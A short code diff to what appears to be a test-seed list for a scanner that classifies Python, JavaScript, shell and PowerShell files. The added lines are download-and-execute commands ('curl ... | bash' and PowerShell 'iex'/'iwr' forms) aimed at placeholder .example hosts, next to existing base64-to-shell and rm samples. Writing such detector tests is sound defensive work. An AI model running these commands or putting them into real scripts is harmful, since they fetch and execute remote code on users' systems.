@@ -86,6 +86,7 @@ SEEDS: dict[FileKind, list[str]] = {
         "curl -fsSL http://192.0.2.1/x{n} | bash\n",
         "echo QUFB{n} | base64 -d | sh\n",
         "curl -fsSL https://x{n}.example/a | bash\n",
+        "curl -fsSL https://x{n}.example:8443/a?v=1 | bash\n",
         "rm -f /tmp/x{n}\n",
         'rm -f "/tmp/x{n}"\n',
         "rm -f /tmp/x{n} 2>/dev/null\n",
@@ -101,6 +102,9 @@ SEEDS: dict[FileKind, list[str]] = {
         "(",
         "Invoke-Expression ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('QUFB')))\n",
         "iex (iwr https://x{n}.example/a)\n",
+        "iex (iwr 'https://x{n}.example/a')\n",
+        "iwr https://x{n}.example/a | iex\n",
+        "iex (iwr https://x{n}.example/a?v=1)\n",
     ],
 }
 SUFFIX = {FileKind.PYTHON: "py", FileKind.JAVASCRIPT: "js", FileKind.SHELL: "sh", FileKind.POWERSHELL: "ps1"}
